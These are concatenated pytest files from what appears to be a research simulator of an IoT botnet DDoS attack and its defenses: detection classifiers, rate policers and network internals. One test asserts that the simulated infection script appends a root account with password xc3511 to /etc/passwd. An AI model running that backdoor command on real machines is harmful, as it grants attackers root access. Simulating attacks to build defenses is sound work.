    def test_redirected_line_produces_no_stdout(self, box):
        mininet, container = box
        out = run_shell(mininet, container, "echo silent > /tmp/f")
        assert out == b""


class TestBackdoorPlanting:
    def test_script_contains_credentials_when_enabled(self):
        urls = InfectionUrls(file_server_host="10.0.0.1")
        script = infection_script(urls, "10.0.0.1", 23, plant_backdoor=True)
        assert "echo root:xc3511 >> /etc/passwd" in script
        plain = infection_script(urls, "10.0.0.1", 23)
        assert "/etc/passwd" not in plain

    def test_backdoor_lands_on_compromised_devs(self):
        config = SimulationConfig(
            n_devs=3, seed=12, attack_duration=10.0,
            recruit_timeout=30.0, sim_duration=120.0,
            plant_backdoor=True,
        )
        ddosim = DDoSim(config)
        result = ddosim.run()
        assert result.recruitment.infection_rate == 1.0
        for dev in ddosim.devs.devs:
            passwd = dev.container.fs.read_file("/etc/passwd")
            assert b"root:xc3511" in passwd


class TestInsights:
    @pytest.fixture(scope="class")
    def run(self):
        config = SimulationConfig(
            n_devs=6, seed=3, attack_duration=15.0,
            recruit_timeout=30.0, sim_duration=150.0,
        )
        ddosim = DDoSim(config)
        result = ddosim.run()
        return ddosim, result

    def test_curl_dependency_detected(self, run):
        ddosim, result = run
        insights = extract_insights(ddosim, result)
        assert insights.tooling_used == ["curl"]
        assert insights.curl_dependent

    def test_bandwidth_leverage_near_one(self, run):
        """Unsaturated fleet: attack magnitude tracks uplink nearly 1:1 —
        the data-rate insight."""
        ddosim, result = run
        insights = extract_insights(ddosim, result)
        assert 0.7 < insights.bandwidth_leverage <= 1.05

    def test_monoculture_measured(self, run):
        ddosim, result = run
        insights = extract_insights(ddosim, result)
        assert 0.0 < insights.monoculture_share <= 1.0
        assert sum(insights.fleet_composition.values()) == 6

    def test_report_text(self, run):
        ddosim, result = run
        text = extract_insights(ddosim, result).report()
        assert "insights" in text
        assert "curl" in text
        assert "monoculture" in text
