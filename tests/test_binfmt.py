"""Unit + property tests for the emulated binary format and loader."""

import random

import pytest
from hypothesis import given, strategies as st

from repro.binaries.binfmt import (
    BinaryImage,
    BinaryRuntime,
    MAGIC,
    STATIC_RET_OFFSET,
    binary_loader,
    lookup_program,
    register_program,
)
from repro.container import loaders


def make_binary(**overrides):
    defaults = dict(
        name="daemon",
        version="1.0",
        program_key="connmand",  # registered by repro.binaries.connman
        protections=("wx",),
        build_seed=3,
    )
    defaults.update(overrides)
    return BinaryImage(**defaults)


class TestBinaryImage:
    def test_serialize_parse_roundtrip(self):
        binary = make_binary(protections=("wx", "aslr"), vulnerable=False)
        parsed = BinaryImage.parse(binary.serialize())
        assert parsed.metadata_dict() == binary.metadata_dict()

    def test_serialized_size_matches_file_size(self):
        binary = make_binary(file_size=32 * 1024)
        assert len(binary.serialize()) == 32 * 1024

    def test_magic_prefix(self):
        assert make_binary().serialize().startswith(MAGIC)

    def test_parse_garbage_rejected(self):
        with pytest.raises(ValueError):
            BinaryImage.parse(b"\x7fELF real elf bytes")

    def test_unknown_protection_rejected(self):
        with pytest.raises(ValueError):
            make_binary(protections=("nx",))

    def test_protection_flags(self):
        assert make_binary(protections=("wx",)).wx_enabled
        assert not make_binary(protections=("wx",)).aslr_enabled
        assert make_binary(protections=("aslr",)).aslr_enabled

    def test_gadget_table_stable_per_build(self):
        one = make_binary(build_seed=9).gadget_table()
        two = make_binary(build_seed=9).gadget_table()
        assert one.addresses == two.addresses

    @given(
        st.sampled_from([(), ("wx",), ("aslr",), ("wx", "aslr")]),
        st.integers(min_value=0, max_value=2**31),
        st.booleans(),
    )
    def test_roundtrip_property(self, protections, seed, vulnerable):
        binary = make_binary(
            protections=protections, build_seed=seed, vulnerable=vulnerable
        )
        parsed = BinaryImage.parse(binary.serialize())
        assert parsed.protections == frozenset(protections)
        assert parsed.build_seed == seed
        assert parsed.vulnerable == vulnerable


class TestBinaryRuntime:
    def test_no_aslr_loads_at_static_base(self):
        runtime = BinaryRuntime(make_binary(), random.Random(1))
        assert runtime.slide == 0
        assert runtime.runtime_text_base == 0x400000

    def test_aslr_slides_text(self):
        runtime = BinaryRuntime(
            make_binary(protections=("aslr",)), random.Random(1)
        )
        assert runtime.slide != 0
        assert runtime.runtime_text_base == 0x400000 + runtime.slide

    def test_leak_points_at_ret_offset(self):
        runtime = BinaryRuntime(
            make_binary(protections=("aslr",)), random.Random(2)
        )
        assert runtime.leak_code_pointer() == (
            0x400000 + runtime.slide + STATIC_RET_OFFSET
        )

    def test_wx_reflected_in_address_space(self):
        hardened = BinaryRuntime(make_binary(protections=("wx",)), random.Random(1))
        legacy = BinaryRuntime(make_binary(protections=()), random.Random(1))
        assert not hardened.address_space.region_named("stack").executable
        assert legacy.address_space.region_named("stack").executable

    def test_aslr_draw_differs_per_process(self):
        binary = make_binary(protections=("aslr",))
        one = BinaryRuntime(binary, random.Random(1))
        two = BinaryRuntime(binary, random.Random(2))
        assert one.slide != two.slide


class TestLoader:
    def test_loader_ignores_foreign_bytes(self):
        assert binary_loader(b"#!/bin/sh\n") is None

    def test_loader_resolves_registered_program(self):
        resolved = binary_loader(make_binary().serialize())
        assert resolved is not None
        program, name, rss = resolved
        assert name == "daemon"
        assert rss == make_binary().rss_bytes
        assert callable(program)

    def test_loader_rejects_unregistered_key(self):
        binary = make_binary(program_key="no-such-program")
        with pytest.raises(ValueError, match="unregistered"):
            binary_loader(binary.serialize())

    def test_registry_registration(self):
        def factory(image):
            def program(ctx):
                yield None

            return program

        register_program("test-prog-xyz", factory)
        assert lookup_program("test-prog-xyz") is factory

    def test_loader_registered_with_container_layer(self):
        resolved = loaders.resolve_program(make_binary().serialize())
        assert resolved is not None
