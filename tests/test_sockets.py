"""Unit tests for the socket facade (UDP inbox/waiters, TCP stream helpers)."""

import pytest

from repro.netsim.process import SimProcess, Timeout
from repro.netsim.sockets import SocketClosed, TcpServerSocket, TcpSocket, UdpSocket
from tests.conftest import drive


class TestUdpSocket:
    def test_sendto_recvfrom_roundtrip(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        sock_b = UdpSocket(node_b, 4000)
        sock_a = UdpSocket(node_a)

        def receiver():
            payload, (source, source_port) = yield sock_b.recvfrom()
            return payload, source, source_port

        sock_a.sendto(b"datagram", star.address_of(node_b), 4000)
        payload, source, source_port = drive(sim, receiver())
        assert payload == b"datagram"
        assert source == star.address_of(node_a)
        assert source_port == sock_a.port

    def test_inbox_buffers_before_recv(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        sock_b = UdpSocket(node_b, 4000)
        sock_a = UdpSocket(node_a)
        for index in range(3):
            sock_a.sendto(bytes([index]), star.address_of(node_b), 4000)
        sim.run()

        def receiver():
            out = []
            for _ in range(3):
                payload, _source = yield sock_b.recvfrom()
                out.append(payload)
            return out

        assert drive(sim, receiver()) == [b"\x00", b"\x01", b"\x02"]

    def test_cancel_waiter_prevents_stale_consumption(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        sock_b = UdpSocket(node_b, 4000)
        sock_a = UdpSocket(node_a)
        stale = sock_b.recvfrom()
        sock_b.cancel_waiter(stale)
        sock_a.sendto(b"fresh", star.address_of(node_b), 4000)
        sim.run()
        assert not stale.done

        def receiver():
            payload, _ = yield sock_b.recvfrom()
            return payload

        assert drive(sim, receiver()) == b"fresh"

    def test_close_unbinds_and_fails_waiters(self, sim, two_hosts):
        _, node_b, _ = two_hosts
        sock = UdpSocket(node_b, 4000)
        pending = sock.recvfrom()
        sock.close()
        assert pending.done and isinstance(pending.error, SocketClosed)
        UdpSocket(node_b, 4000)  # port is free again

    def test_send_on_closed_socket_raises(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        sock = UdpSocket(node_a)
        sock.close()
        with pytest.raises(SocketClosed):
            sock.sendto(b"x", star.address_of(node_b), 1)

    def test_virtual_payload_send(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        sock_b = UdpSocket(node_b, 4000)
        UdpSocket(node_a, 5555).sendto(
            None, star.address_of(node_b), 4000, payload_size=256
        )

        def receiver():
            payload, _ = yield sock_b.recvfrom()
            return payload

        assert drive(sim, receiver()) is None


class TestTcpStreamHelpers:
    def _serve_bytes(self, sim, node, port, data, close=True):
        server = TcpServerSocket(node, port)

        def run():
            sock = yield server.accept()
            sock.send(data)
            if close:
                sock.close()

        SimProcess(sim, run(), name="byte-server")

    def test_read_line_strips_crlf(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        self._serve_bytes(sim, node_b, 80, b"first\r\nsecond\n")

        def client():
            sock = TcpSocket.connect(node_a, star.address_of(node_b), 80)
            yield sock.wait_connected()
            first = yield from sock.read_line()
            second = yield from sock.read_line()
            return first, second

        assert drive(sim, client()) == (b"first", b"second")

    def test_read_line_eof_returns_none(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        self._serve_bytes(sim, node_b, 80, b"only\n")

        def client():
            sock = TcpSocket.connect(node_a, star.address_of(node_b), 80)
            yield sock.wait_connected()
            yield from sock.read_line()
            return (yield from sock.read_line())

        assert drive(sim, client()) is None

    def test_read_line_returns_partial_tail_at_eof(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        self._serve_bytes(sim, node_b, 80, b"no-newline")

        def client():
            sock = TcpSocket.connect(node_a, star.address_of(node_b), 80)
            yield sock.wait_connected()
            return (yield from sock.read_line())

        assert drive(sim, client()) == b"no-newline"

    def test_read_exactly(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        self._serve_bytes(sim, node_b, 80, b"0123456789")

        def client():
            sock = TcpSocket.connect(node_a, star.address_of(node_b), 80)
            yield sock.wait_connected()
            head = yield from sock.read_exactly(4)
            tail = yield from sock.read_exactly(6)
            return head, tail

        assert drive(sim, client()) == (b"0123", b"456789")

    def test_read_exactly_eof_raises(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        self._serve_bytes(sim, node_b, 80, b"short")

        def client():
            sock = TcpSocket.connect(node_a, star.address_of(node_b), 80)
            yield sock.wait_connected()
            with pytest.raises(EOFError):
                yield from sock.read_exactly(100)

        drive(sim, client())

    def test_read_all(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        self._serve_bytes(sim, node_b, 80, b"a" * 5000)

        def client():
            sock = TcpSocket.connect(node_a, star.address_of(node_b), 80)
            yield sock.wait_connected()
            return (yield from sock.read_all())

        assert drive(sim, client()) == b"a" * 5000

    def test_send_line_appends_newline(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        server = TcpServerSocket(node_b, 80)
        lines = []

        def server_proc():
            sock = yield server.accept()
            lines.append((yield from sock.read_line()))

        def client():
            sock = TcpSocket.connect(node_a, star.address_of(node_b), 80)
            yield sock.wait_connected()
            sock.send_line("hello")
            yield Timeout(sim, 1.0)

        SimProcess(sim, server_proc(), name="server")
        drive(sim, client())
        assert lines == [b"hello"]
