"""End-to-end test of the V-A1 use case: simulate, extract, train, score."""

import pytest

from repro.analysis.dataset import generate_detection_dataset
from repro.analysis.detection import LogisticRegressionClassifier, train_test_split


@pytest.fixture(scope="module")
def dataset():
    return generate_detection_dataset(n_benign_clients=4, seed=2)


class TestDetectionPipeline:
    def test_dataset_has_both_classes(self, dataset):
        assert dataset.y.sum() > 0
        assert (dataset.y == 0).sum() > 0

    def test_attack_window_matches_labels(self, dataset):
        start, end = dataset.attack_interval
        assert end - start == pytest.approx(40.0)
        assert dataset.y.sum() >= int(end - start) - 1

    def test_classifier_detects_the_flood(self, dataset):
        X_train, y_train, X_test, y_test = train_test_split(
            dataset.X, dataset.y, test_fraction=0.3, seed=0
        )
        model = LogisticRegressionClassifier(epochs=400).fit(X_train, y_train)
        metrics = model.evaluate(X_test, y_test)
        # Boundary windows (attack ramping up / draining) blur labels a
        # little; the flood windows themselves are near-perfectly found.
        assert metrics.accuracy >= 0.85
        assert metrics.recall >= 0.85

    def test_feature_matrix_shape(self, dataset):
        from repro.analysis.features import FEATURE_NAMES

        assert dataset.X.shape[1] == len(FEATURE_NAMES)
        assert len(dataset.X) == len(dataset.y)
