"""Pluggable-scheduler semantics: calendar queue, freelist, tombstones.

The load-bearing property is at the bottom: for the same workload, every
scheduler dispatches the identical event sequence — scheduler choice is a
performance knob, never a semantics knob.
"""

import random

import pytest

from repro.core.config import SimulationConfig
from repro.netsim.scheduler import (
    CalendarScheduler,
    HeapScheduler,
    SCHEDULER_NAMES,
    make_scheduler,
)
from repro.netsim.simulator import ScheduledEvent, SimulationError, Simulator


def _event(time, seq):
    return ScheduledEvent(time, seq, lambda: None, ())


class TestMakeScheduler:
    def test_known_names(self):
        assert isinstance(make_scheduler("heap"), HeapScheduler)
        assert isinstance(make_scheduler("calendar"), CalendarScheduler)

    def test_unknown_name_raises(self):
        with pytest.raises(ValueError, match="unknown scheduler"):
            make_scheduler("linked-list")

    def test_registry_covers_all_names(self):
        for name in SCHEDULER_NAMES:
            assert make_scheduler(name).name == name


class TestCalendarScheduler:
    def test_orders_events_across_buckets(self):
        sched = CalendarScheduler(width=0.5, n_buckets=4)
        times = [3.7, 0.1, 12.9, 0.6, 7.3, 0.1]
        for seq, t in enumerate(times):
            sched.push(_event(t, seq))
        popped = []
        while True:
            event = sched.pop_next()
            if event is None:
                break
            popped.append((event.time, event.seq))
        assert popped == sorted(popped)
        assert len(popped) == len(times)

    def test_fifo_ties_within_bucket(self):
        sched = CalendarScheduler()
        first, second = _event(1.0, 1), _event(1.0, 2)
        sched.push(second)
        sched.push(first)
        assert sched.pop_next() is first
        assert sched.pop_next() is second

    def test_pop_respects_limit(self):
        sched = CalendarScheduler()
        sched.push(_event(5.0, 1))
        assert sched.pop_next(limit=4.9) is None
        assert len(sched) == 1
        assert sched.pop_next(limit=5.0).time == 5.0

    def test_resize_preserves_order(self):
        sched = CalendarScheduler(n_buckets=2)
        rng = random.Random(9)
        times = [rng.random() * 100 for _ in range(500)]
        for seq, t in enumerate(times):
            sched.push(_event(t, seq))  # triggers several doublings
        out = []
        while len(sched):
            out.append(sched.pop_next().time)
        assert out == sorted(times)

    def test_remove_cancelled_compacts(self):
        sched = CalendarScheduler()
        events = [_event(float(i), i) for i in range(10)]
        for event in events:
            sched.push(event)
        for event in events[::2]:
            event.cancelled = True
        assert sched.remove_cancelled() == 5
        assert len(sched) == 5

    def test_far_future_tail_is_found(self):
        # Events more than a "year" past the cursor exercise the direct
        # min-scan fallback.
        sched = CalendarScheduler(width=0.001, n_buckets=4)
        sched.push(_event(10_000.0, 1))
        assert sched.peek().time == 10_000.0
        assert sched.pop_next().time == 10_000.0


class TestSimulatorScheduling:
    def test_config_rejects_unknown_scheduler(self):
        with pytest.raises(ValueError, match="scheduler"):
            SimulationConfig(scheduler="fifo")

    def test_scheduler_name_property(self):
        assert Simulator().scheduler_name == "heap"
        assert Simulator(scheduler="calendar").scheduler_name == "calendar"

    def test_schedule_bare_fires_in_order(self):
        sim = Simulator()
        fired = []
        sim.schedule_bare(0.2, fired.append, "late")
        sim.schedule_bare(0.1, fired.append, "early")
        sim.run()
        assert fired == ["early", "late"]

    def test_schedule_bare_rejects_negative_delay(self):
        with pytest.raises(SimulationError):
            Simulator().schedule_bare(-0.1, lambda: None)

    def test_schedule_bare_recycles_event_objects(self):
        sim = Simulator()

        def chain(remaining):
            if remaining:
                sim.schedule_bare(0.1, chain, remaining - 1)

        chain(100)
        sim.run()
        # Strictly sequential wakeups reuse a single freelist event.
        assert sim.events_executed == 100
        assert len(sim._free) == 1

    def test_pending_events_excludes_cancelled(self):
        sim = Simulator()
        keep = sim.schedule(1.0, lambda: None)
        drop = sim.schedule(2.0, lambda: None)
        assert sim.pending_events == 2
        drop.cancel()
        assert sim.pending_events == 1
        assert keep is not drop

    def test_cancel_after_fire_keeps_live_count_exact(self):
        sim = Simulator()
        handle = sim.schedule(0.5, lambda: None)
        sim.run()
        assert sim.pending_events == 0
        handle.cancel()  # late cancel must be a no-op
        assert sim.pending_events == 0

    def test_double_cancel_counts_once(self):
        sim = Simulator()
        handle = sim.schedule(1.0, lambda: None)
        handle.cancel()
        handle.cancel()
        assert sim.pending_events == 0
        sim.run()
        assert sim.events_executed == 0

    def test_tombstone_compaction_shrinks_queue(self):
        sim = Simulator()
        handles = [sim.schedule(1.0 + i * 1e-3, lambda: None) for i in range(200)]
        for handle in handles[:150]:
            handle.cancel()
        # Compaction fires once cancellations outnumber live events, so
        # the physical queue holds far fewer than 150 tombstones.
        assert sim.pending_events == 50
        assert sim.queued_entries < 100
        sim.run()
        assert sim.events_executed == 50


@pytest.mark.parametrize("name", SCHEDULER_NAMES)
def test_schedulers_dispatch_identically(name):
    """Same churn-heavy workload, identical firing sequence per scheduler."""

    def workload(sim):
        rng = random.Random(1234)
        order = []
        handles = []

        def callback(tag):
            order.append((sim.now, tag))
            if tag % 3 == 0 and sim.now < 4.0:
                handles.append(sim.schedule(rng.random(), callback, tag + 1000))
            if tag % 5 == 0 and handles:
                handles.pop(rng.randrange(len(handles))).cancel()
            if tag % 2 == 0 and sim.now < 4.0:
                sim.schedule_bare(rng.random() * 0.3, callback, tag + 1)

        for index in range(300):
            sim.schedule(rng.random() * 2.0, callback, index)
        sim.run(until=8.0)
        return order

    baseline = workload(Simulator(scheduler="heap"))
    assert workload(Simulator(scheduler=name)) == baseline
    assert len(baseline) > 300
