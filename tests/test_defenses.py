"""Tests for the deployable defenses (policer, classifier firewall)."""

import numpy as np
import pytest

from repro.analysis.defenses import ClassifierFirewall, PerSourcePolicer
from repro.analysis.detection import LogisticRegressionClassifier
from repro.core import DDoSim, SimulationConfig
from repro.netsim.node import Node
from repro.netsim.sink import PacketSink


class TestPerSourcePolicerUnit:
    def _setup(self, sim, star, rate_bps=80_000, burst=10_000):
        sender = Node(sim, "sender")
        victim = Node(sim, "victim")
        star.attach_host(sender, 10e6)
        star.attach_host(victim, 10e6)
        sink = PacketSink(victim)
        sink.start()
        policer = PerSourcePolicer(victim, rate_bps=rate_bps, burst_bytes=burst)
        policer.install()
        return sender, victim, sink, policer

    def test_conforming_traffic_passes(self, sim, star):
        sender, victim, sink, policer = self._setup(sim, star)
        # 10 packets of 500 B over 10 s = 4 kbps << 80 kbps budget.
        for index in range(10):
            sim.schedule(
                index * 1.0,
                sender.udp.send_datagram,
                None, star.address_of(victim), 7, 9, 500,
            )
        sim.run(until=20.0)
        assert sink.total_packets == 10
        assert policer.dropped_packets == 0

    def test_flood_is_policed(self, sim, star):
        sender, victim, sink, policer = self._setup(sim, star)
        # 2 Mbps offered against an 80 kbps per-source budget.
        for index in range(500):
            sim.schedule(
                index * 0.002,
                sender.udp.send_datagram,
                None, star.address_of(victim), 7, 9, 500,
            )
        sim.run(until=5.0)
        assert policer.dropped_packets > 300
        assert policer.drop_ratio > 0.6
        assert sink.total_packets < 200

    def test_budget_is_per_source(self, sim, star):
        sender_a = Node(sim, "a")
        sender_b = Node(sim, "b")
        victim = Node(sim, "victim")
        for node in (sender_a, sender_b, victim):
            star.attach_host(node, 10e6)
        sink = PacketSink(victim)
        sink.start()
        policer = PerSourcePolicer(victim, rate_bps=80_000, burst_bytes=4_000)
        policer.install()
        # A floods; B sends one small packet and must get through.
        for index in range(200):
            sim.schedule(
                index * 0.001,
                sender_a.udp.send_datagram,
                None, star.address_of(victim), 7, 9, 500,
            )
        sim.schedule(
            0.15, sender_b.udp.send_datagram,
            None, star.address_of(victim), 7, 9, 200,
        )
        sim.run(until=2.0)
        victim_sources = {str(source) for source, _port in sink.per_source}
        assert str(star.address_of(sender_b)) in victim_sources

    def test_uninstall_restores_sink(self, sim, star):
        sender, victim, sink, policer = self._setup(sim, star, rate_bps=1_000,
                                                    burst=1_000)
        policer.uninstall()
        for _ in range(5):
            sender.udp.send_datagram(
                None, star.address_of(victim), 7, src_port=9, payload_size=900
            )
        sim.run(until=2.0)
        assert sink.total_packets == 5

    def test_invalid_parameters(self, sim, star):
        victim = Node(sim, "victim")
        star.attach_host(victim, 1e6)
        with pytest.raises(ValueError):
            PerSourcePolicer(victim, rate_bps=0)


class TestPolicerAgainstRealAttack:
    def test_policer_collapses_accepted_attack_volume(self):
        """Full-stack mitigation check: same botnet, with and without."""
        config = SimulationConfig(
            n_devs=10, seed=6, attack_duration=20.0,
            recruit_timeout=40.0, sim_duration=200.0,
        )
        undefended = DDoSim(config).run()

        defended_sim = DDoSim(config)
        policer = PerSourcePolicer(
            defended_sim.tserver.node, rate_bps=32_000, burst_bytes=8_000
        )
        defended_sim.build()
        # Install after the sink starts (run() starts the sink; schedule
        # the interposition just after t=0).
        defended_sim.sim.schedule(0.01, policer.install)
        defended = defended_sim.run()

        accepted = defended_sim.tserver.sink.total_bytes
        assert undefended.attack.received_bytes > 0
        assert accepted < undefended.attack.received_bytes * 0.35
        assert policer.dropped_packets > 0


class TestClassifierFirewall:
    def test_blocks_after_detected_window(self, sim, star):
        sender = Node(sim, "sender")
        victim = Node(sim, "victim")
        star.attach_host(sender, 10e6)
        star.attach_host(victim, 10e6)
        sink = PacketSink(victim)
        sink.start()

        class AlwaysAttack:
            def predict(self, X):
                return np.array([1])

        firewall = ClassifierFirewall(victim, AlwaysAttack(), window=1.0)
        firewall.install()
        for index in range(40):
            sim.schedule(
                index * 0.1,
                sender.udp.send_datagram,
                None, star.address_of(victim), 7, 9, 500,
            )
        sim.run(until=5.0)
        # First window passes (no verdict yet), later windows are blocked.
        assert firewall.windows_blocked >= 2
        assert firewall.packets_dropped > 0
        assert sink.total_packets < 40

    def test_benign_verdict_keeps_traffic_flowing(self, sim, star):
        sender = Node(sim, "sender")
        victim = Node(sim, "victim")
        star.attach_host(sender, 10e6)
        star.attach_host(victim, 10e6)
        sink = PacketSink(victim)
        sink.start()

        class AlwaysBenign:
            def predict(self, X):
                return np.array([0])

        firewall = ClassifierFirewall(victim, AlwaysBenign(), window=1.0)
        firewall.install()
        for index in range(20):
            sim.schedule(
                index * 0.2,
                sender.udp.send_datagram,
                None, star.address_of(victim), 7, 9, 500,
            )
        sim.run(until=6.0)
        assert sink.total_packets == 20
        assert firewall.packets_dropped == 0
