"""Unit + property tests for drop-tail queues."""

import pytest
from hypothesis import given, strategies as st

from repro.netsim.packet import Packet
from repro.netsim.queues import DropTailQueue


class TestDropTailQueue:
    def test_fifo_order(self):
        queue = DropTailQueue(max_packets=10)
        packets = [Packet(payload_size=i + 1) for i in range(3)]
        for packet in packets:
            assert queue.enqueue(packet)
        assert [queue.dequeue() for _ in range(3)] == packets

    def test_dequeue_empty_returns_none(self):
        assert DropTailQueue().dequeue() is None

    def test_overflow_drops_tail(self):
        queue = DropTailQueue(max_packets=2)
        assert queue.enqueue(Packet(payload_size=1))
        assert queue.enqueue(Packet(payload_size=1))
        assert not queue.enqueue(Packet(payload_size=1))
        assert queue.dropped == 1
        assert len(queue) == 2

    def test_byte_capacity(self):
        queue = DropTailQueue(max_packets=100, max_bytes=100)
        assert queue.enqueue(Packet(payload_size=60))
        assert not queue.enqueue(Packet(payload_size=60))
        assert queue.dropped == 1

    def test_byte_accounting(self):
        queue = DropTailQueue()
        queue.enqueue(Packet(payload_size=10))
        queue.enqueue(Packet(payload_size=20))
        assert queue.bytes_queued == 30
        queue.dequeue()
        assert queue.bytes_queued == 20

    def test_clear_counts_losses(self):
        queue = DropTailQueue()
        for _ in range(4):
            queue.enqueue(Packet(payload_size=5))
        lost = queue.clear()
        assert lost == 4
        assert queue.dropped == 4
        assert queue.empty
        assert queue.bytes_queued == 0

    def test_zero_capacity_rejected(self):
        with pytest.raises(ValueError):
            DropTailQueue(max_packets=0)

    @given(st.lists(st.integers(min_value=1, max_value=2000), max_size=60),
           st.integers(min_value=1, max_value=20))
    def test_invariants_property(self, sizes, capacity):
        """Length never exceeds capacity; enqueued == dequeued + queued +
        dropped; byte counter matches contents."""
        queue = DropTailQueue(max_packets=capacity)
        dequeued = 0
        for index, size in enumerate(sizes):
            queue.enqueue(Packet(payload_size=size))
            if index % 3 == 2 and queue.dequeue() is not None:
                dequeued += 1
            assert len(queue) <= capacity
        assert queue.enqueued == dequeued + len(queue)
        assert queue.enqueued + queue.dropped == len(sizes)
        remaining_bytes = 0
        while True:
            packet = queue.dequeue()
            if packet is None:
                break
            remaining_bytes += packet.size
        assert queue.bytes_queued == 0
        assert remaining_bytes >= 0
