"""Unit + property tests for drop-tail queues."""

import pytest
from hypothesis import given, strategies as st

from repro.netsim.packet import Packet, PacketTrain
from repro.netsim.queues import DropTailQueue


class TestDropTailQueue:
    def test_fifo_order(self):
        queue = DropTailQueue(max_packets=10)
        packets = [Packet(payload_size=i + 1) for i in range(3)]
        for packet in packets:
            assert queue.enqueue(packet)
        assert [queue.dequeue() for _ in range(3)] == packets

    def test_dequeue_empty_returns_none(self):
        assert DropTailQueue().dequeue() is None

    def test_overflow_drops_tail(self):
        queue = DropTailQueue(max_packets=2)
        assert queue.enqueue(Packet(payload_size=1))
        assert queue.enqueue(Packet(payload_size=1))
        assert not queue.enqueue(Packet(payload_size=1))
        assert queue.dropped == 1
        assert len(queue) == 2

    def test_byte_capacity(self):
        queue = DropTailQueue(max_packets=100, max_bytes=100)
        assert queue.enqueue(Packet(payload_size=60))
        assert not queue.enqueue(Packet(payload_size=60))
        assert queue.dropped == 1

    def test_byte_accounting(self):
        queue = DropTailQueue()
        queue.enqueue(Packet(payload_size=10))
        queue.enqueue(Packet(payload_size=20))
        assert queue.bytes_queued == 30
        queue.dequeue()
        assert queue.bytes_queued == 20

    def test_clear_counts_losses(self):
        queue = DropTailQueue()
        for _ in range(4):
            queue.enqueue(Packet(payload_size=5))
        lost = queue.clear()
        assert lost == 4
        assert queue.dropped == 4
        assert queue.empty
        assert queue.bytes_queued == 0

    def test_zero_capacity_rejected(self):
        with pytest.raises(ValueError):
            DropTailQueue(max_packets=0)


class TestByteCappedTrainSplit:
    """The overflow_bytes head-admit/tail-drop path: a train that only
    partially fits the *byte* cap is split exactly like the packet-cap
    split, with the drop reason attributed to bytes."""

    def test_byte_cap_splits_train(self):
        # 1000 B cap, 100 B members: byte room for 10 of 16.
        queue = DropTailQueue(max_packets=100, max_bytes=1000)
        train = PacketTrain(100, 16)
        assert queue.enqueue(train)  # head admitted
        assert len(queue) == 10
        assert queue.bytes_queued == 1000
        assert queue.dropped == 6
        assert queue.enqueued == 10

    def test_byte_cap_tighter_than_packet_cap_wins(self):
        # Packet room 12, byte room 5: the byte cap binds.
        queue = DropTailQueue(max_packets=12, max_bytes=500)
        train = PacketTrain(100, 12)
        assert queue.enqueue(train)
        assert len(queue) == 5
        assert queue.dropped == 7

    def test_packet_cap_tighter_than_byte_cap_wins(self):
        queue = DropTailQueue(max_packets=3, max_bytes=10_000)
        train = PacketTrain(100, 8)
        assert queue.enqueue(train)
        assert len(queue) == 3
        assert queue.bytes_queued == 300
        assert queue.dropped == 5

    def test_full_byte_cap_rejects_whole_train(self):
        queue = DropTailQueue(max_packets=100, max_bytes=250)
        assert queue.enqueue(PacketTrain(100, 2))
        # 50 B of room < one 100 B member: byte_room == 0, full drop.
        assert not queue.enqueue(PacketTrain(100, 4))
        assert queue.dropped == 4
        assert len(queue) == 2

    def test_split_does_not_mutate_original_train(self):
        # enqueue() admits a *copy* of the head; the caller's train (and
        # anything else holding it) keeps its original count.
        queue = DropTailQueue(max_packets=4, max_bytes=None)
        train = PacketTrain(100, 10)
        assert queue.enqueue(train)
        assert train.count == 10
        admitted = queue.dequeue()
        assert admitted is not train
        assert admitted.count == 4

    def test_admitted_head_dequeues_with_exact_byte_accounting(self):
        queue = DropTailQueue(max_packets=100, max_bytes=750)
        train = PacketTrain(250, 5)
        assert queue.enqueue(train)
        assert queue.bytes_queued == 750
        head = queue.dequeue()
        assert head.count == 3
        assert queue.bytes_queued == 0
        assert queue.empty

    @given(st.integers(min_value=1, max_value=40),
           st.integers(min_value=1, max_value=400),
           st.integers(min_value=100, max_value=4000))
    def test_byte_split_invariants_property(self, count, size, max_bytes):
        """admitted + dropped == count, and the byte counter never
        exceeds the cap, for any (train, cap) combination."""
        queue = DropTailQueue(max_packets=1000, max_bytes=max_bytes)
        queue.enqueue(PacketTrain(size, count))
        assert len(queue) + queue.dropped == count
        assert queue.bytes_queued <= max_bytes
        assert queue.bytes_queued == len(queue) * size

    def test_fluid_drop_feeds_same_counters(self):
        """The analytic datapath's drop hook shares the packet path's
        accounting: queue.dropped and the drop counter both move."""
        queue = DropTailQueue(max_packets=10)
        queue.fluid_drop(7, 560, "overflow_fluid")
        assert queue.dropped == 7
        queue.fluid_drop(0, 560, "overflow_fluid")  # no-op
        assert queue.dropped == 7

    @given(st.lists(st.integers(min_value=1, max_value=2000), max_size=60),
           st.integers(min_value=1, max_value=20))
    def test_invariants_property(self, sizes, capacity):
        """Length never exceeds capacity; enqueued == dequeued + queued +
        dropped; byte counter matches contents."""
        queue = DropTailQueue(max_packets=capacity)
        dequeued = 0
        for index, size in enumerate(sizes):
            queue.enqueue(Packet(payload_size=size))
            if index % 3 == 2 and queue.dequeue() is not None:
                dequeued += 1
            assert len(queue) <= capacity
        assert queue.enqueued == dequeued + len(queue)
        assert queue.enqueued + queue.dropped == len(sizes)
        remaining_bytes = 0
        while True:
            packet = queue.dequeue()
            if packet is None:
                break
            remaining_bytes += packet.size
        assert queue.bytes_queued == 0
        assert remaining_bytes >= 0
