"""repro.cache: content-addressed run store + incremental sweeps.

The cache's contract is reproducibility-grade: a warm rerun must return
*byte-identical* output to the cold run, any change to the config (seed,
grid knob, fault plan) or to the engine's code must miss, and an
interrupted sweep must resume from its committed points without
recomputing them.
"""

import dataclasses
import json
import os
import time

import pytest

from repro.cache import CachedRun, RunCache, code_salt, run_key
from repro.parallel import QuarantinedPoint, Supervision
from repro.core.config import SimulationConfig
from repro.core.resources import ResourceReport
from repro.core.results import (
    AttackStatsSummary,
    ChurnSummary,
    RecruitmentStats,
    RunResult,
)
from repro.faults import FaultPlan
from repro.parallel import run_cached
